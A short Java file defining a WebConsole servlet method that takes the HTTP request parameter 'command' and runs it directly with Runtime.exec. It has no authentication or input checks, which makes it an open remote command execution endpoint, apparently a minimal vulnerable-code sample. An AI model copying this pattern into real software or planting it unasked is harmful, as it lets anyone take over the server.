package com.admin.console;

import java.io.IOException;
import javax.servlet.http.HttpServletRequest;

public class WebConsole {
    Process execute(HttpServletRequest request) throws IOException {
        String command = request.getParameter("command");
        return Runtime.getRuntime().exec(command);
    }
}
